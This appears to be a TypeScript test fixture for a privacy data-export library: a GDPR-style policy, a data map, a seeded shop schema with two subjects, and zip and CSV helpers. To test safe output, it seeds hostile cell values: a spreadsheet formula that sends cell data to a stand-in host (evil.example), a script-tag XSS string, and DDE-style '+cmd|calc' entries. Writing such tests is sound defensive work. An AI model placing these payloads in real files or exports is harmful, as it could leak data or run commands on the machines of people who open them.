// Test fixtures: a small host application schema (customers, orders, order lines, invoices, logs),
// its data map and policy, and two subjects whose data must never mix.
import { definePolicy, defineDataMap } from '@privacykit/core';
import type { DataMap, Policy } from '@privacykit/core';
import type { Kysely } from 'kysely';
import yauzl from 'yauzl';
import type { Readable } from 'node:stream';

export const policy: Policy = definePolicy({
  version: '2024-01',
  effectiveDate: '2024-01-01',
  controller: { name: 'Shop <SAS>', email: 'privacy@shop.example' },
  dpo: { email: 'dpo@shop.example' },
  supervisoryAuthority: { name: 'CNIL', website: 'https://www.cnil.fr/' },
  categories: [{ id: 'billing.tax-id', label: 'Tax identification number', source: 'provided' }],
  purposes: [
    {
      id: 'contract',
      name: 'Sell and deliver your orders',
      description: 'Orders, delivery and support.',
      legalBases: [{ basis: 'contract' }],
      categories: [
        'identity.name',
        'identity.customer-number',
        'contact.email',
        'transaction',
        'support',
        'usage.login-history',
      ],
      recipients: ['hosting'],
    },
    {
      id: 'accounting',
      name: 'Keep the accounts',
      description: 'Invoices kept as the commercial code requires.',
      legalBases: [{ basis: 'legal-obligation', law: 'Code de commerce L123-22' }],
      categories: ['billing.invoices', 'billing.tax-id'],
      recipients: ['accountant'],
    },
    {
      id: 'ads',
      name: 'Personalised offers',
      description: 'Offers from what you seem to like.',
      legalBases: [{ basis: 'consent' }],
      categories: ['marketing.interests'],
      recipients: ['adtech'],
    },
    {
      id: 'security',
      name: 'Keep the service secure',
      description: 'Logs.',
      legalBases: [{ basis: 'legitimate-interests', legitimateInterest: 'Detect abuse.' }],
      categories: ['usage.logs'],
    },
  ],
  recipients: [
    { id: 'hosting', name: 'Hosting GmbH', kind: 'processor', locations: ['DE'] },
    { id: 'accountant', name: 'Cabinet Comptable', kind: 'processor', locations: ['FR'] },
    { id: 'adtech', name: 'AdTech Inc', kind: 'third-party', locations: ['US'] },
  ],
  transfers: [
    { id: 'us', recipients: ['adtech'], destination: 'US', safeguard: 'standard-contractual-clauses' },
  ],
  rights: {
    offered: ['access', 'rectification', 'erasure', 'portability', 'objection', 'complaint'],
    channels: [{ kind: 'email', value: 'privacy@shop.example' }],
  },
});

export const dataMap: DataMap = defineDataMap(
  {
    identities: { email: { normalise: 'email' }, customerNumber: {} },
    tables: {
      customers: {
        primaryKey: 'id',
        identities: { email: 'email', customerNumber: 'customer_number' },
        columns: {
          email: 'contact.email',
          customer_number: 'identity.customer-number',
          name: 'identity.name',
          note: 'support',
          interests: 'marketing.interests',
        },
        description: 'Your customer account',
      },
      orders: {
        primaryKey: 'id',
        references: [{ column: 'customer_id', table: 'customers' }],
        columns: {
          placed_at: 'transaction.details',
          total_cents: 'transaction.details',
          comment: 'transaction.details',
        },
      },
      order_lines: {
        primaryKey: 'id',
        references: [{ column: 'order_id', table: 'orders' }],
        columns: {
          product: 'transaction.details',
          quantity: 'transaction.details',
          ratio: 'transaction.details',
        },
      },
      invoices: {
        primaryKey: 'id',
        references: [{ column: 'customer_id', table: 'customers' }],
        columns: { number: 'billing.invoices', amount_cents: 'billing.invoices', tax_id: 'billing.tax-id' },
      },
      logs: {
        primaryKey: 'id',
        identities: { email: 'email' },
        columns: { email: 'contact.email', event: 'usage.logs', login_at: 'usage.login-history' },
      },
    },
  },
  { policy },
);

export const hostile = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  script: '<script>alert("x")</script>',
  tricky: 'line one\r\nline "two", with comma',
  unicode: 'Zoë 🎉 — ünïcode',
};

/** Creates and fills the host tables: Ada (id 1, the subject) and Bob (id 2, never exported). */
export async function createHostSchema(db: Kysely<any>, options: { orders?: number } = {}): Promise<void> {
  await db.schema
    .createTable('customers')
    .addColumn('id', 'integer', (col) => col.primaryKey())
    .addColumn('email', 'varchar(255)')
    .addColumn('customer_number', 'varchar(32)')
    .addColumn('name', 'varchar(255)')
    .addColumn('note', 'text')
    .addColumn('interests', 'text')
    .execute();
  await db.schema
    .createTable('orders')
    .addColumn('id', 'integer', (col) => col.primaryKey())
    .addColumn('customer_id', 'integer', (col) => col.references('customers.id'))
    .addColumn('placed_at', 'varchar(32)')
    .addColumn('total_cents', 'integer')
    .addColumn('comment', 'text')
    .execute();
  await db.schema
    .createTable('order_lines')
    .addColumn('id', 'integer', (col) => col.primaryKey())
    .addColumn('order_id', 'integer', (col) => col.references('orders.id'))
    .addColumn('product', 'varchar(255)')
    .addColumn('quantity', 'integer')
    .addColumn('ratio', 'double precision')
    .execute();
  await db.schema
    .createTable('invoices')
    .addColumn('id', 'integer', (col) => col.primaryKey())
    .addColumn('customer_id', 'integer', (col) => col.references('customers.id'))
    .addColumn('number', 'varchar(32)')
    .addColumn('amount_cents', 'integer')
    .addColumn('tax_id', 'varchar(32)')
    .execute();
  await db.schema
    .createTable('logs')
    .addColumn('id', 'integer', (col) => col.primaryKey())
    .addColumn('email', 'varchar(255)')
    .addColumn('event', 'text')
    .addColumn('login_at', 'varchar(32)')
    .execute();

  await db
    .insertInto('customers')
    .values([
      {
        id: 1,
        email: 'ada@example.com',
        customer_number: 'C-1',
        name: hostile.formula,
        note: hostile.script,
        interests: 'cats',
      },
      {
        id: 2,
        email: 'bob@example.com',
        customer_number: 'C-2',
        name: 'Bob Bobson',
        note: 'bob note',
        interests: 'dogs',
      },
    ])
    .execute();
  const orders = options.orders ?? 3;
  const orderRows = [];
  const lineRows = [];
  for (let i = 1; i <= orders; i++) {
    orderRows.push({
      id: i,
      customer_id: 1,
      placed_at: `2024-01-${String((i % 28) + 1).padStart(2, '0')}T10:00:00.000Z`,
      total_cents: i * 1000 - 7,
      comment: i === 1 ? hostile.tricky : i === 2 ? hostile.unicode : i === 3 ? '-1+2' : null,
    });
    lineRows.push({ id: i * 2 - 1, order_id: i, product: `Product ${i}`, quantity: i, ratio: 0.1 * i });
    lineRows.push({ id: i * 2, order_id: i, product: '@SUM(1)', quantity: -i, ratio: -1.5 });
  }
  // Bob's keys stay clear of Ada's however many orders she is given.
  orderRows.push({
    id: 10_000_000,
    customer_id: 2,
    placed_at: '2024-02-01T00:00:00.000Z',
    total_cents: 5,
    comment: 'bob order',
  });
  lineRows.push({ id: 20_000_000, order_id: 10_000_000, product: 'Bob product', quantity: 1, ratio: 1 });
  // In batches: a large subject's rows would pass the engines' limits on parameters per statement.
  for (let i = 0; i < orderRows.length; i += 500) {
    await db
      .insertInto('orders')
      .values(orderRows.slice(i, i + 500))
      .execute();
  }
  for (let i = 0; i < lineRows.length; i += 500) {
    await db
      .insertInto('order_lines')
      .values(lineRows.slice(i, i + 500))
      .execute();
  }
  await db
    .insertInto('invoices')
    .values([
      { id: 1, customer_id: 1, number: 'F-2024-1', amount_cents: 993, tax_id: 'FR123' },
      { id: 2, customer_id: 2, number: 'F-2024-2', amount_cents: 5, tax_id: 'FR999' },
    ])
    .execute();
  await db
    .insertInto('logs')
    .values([
      { id: 1, email: 'ada@example.com', event: 'login', login_at: '2024-01-02T08:00:00.000Z' },
      { id: 2, email: 'bob@example.com', event: 'login', login_at: '2024-01-02T09:00:00.000Z' },
      { id: 3, email: 'Ada@example.com', event: 'someone else typed Ada@', login_at: null },
      { id: 4, email: 'ada@example.com', event: '+cmd|calc', login_at: '2024-01-03T08:00:00.000Z' },
    ])
    .execute();
}

export async function collect(stream: Readable): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of stream) parts.push(Buffer.from(part as Uint8Array));
  return Buffer.concat(parts);
}

/** Every entry of a zip, by path (test sizes only). */
export async function unzip(zip: Buffer): Promise<Map<string, Buffer>> {
  const zipfile = await new Promise<yauzl.ZipFile>((resolve, reject) =>
    yauzl.fromBuffer(zip, { lazyEntries: true }, (error, file) => (error ? reject(error) : resolve(file))),
  );
  const entries = new Map<string, Buffer>();
  await new Promise<void>((resolve, reject) => {
    zipfile.on('error', reject);
    zipfile.on('end', () => resolve());
    zipfile.on('entry', (entry: yauzl.Entry) => {
      zipfile.openReadStream(entry, (error, stream) => {
        if (error) return reject(error);
        collect(stream).then((data) => {
          entries.set(entry.fileName, data);
          zipfile.readEntry();
        }, reject);
      });
    });
    zipfile.readEntry();
  });
  return entries;
}

/** A strict RFC 4180 parser for checking what the exporter writes. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i];
        i++;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        cell += text[i];
        i++;
      }
    }
    record.push(cell);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text[i] === '\r' && text[i + 1] === '\n') {
      records.push(record);
      record = [];
      i += 2;
      continue;
    }
    if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (record.length > 0) records.push(record);
  return records;
}
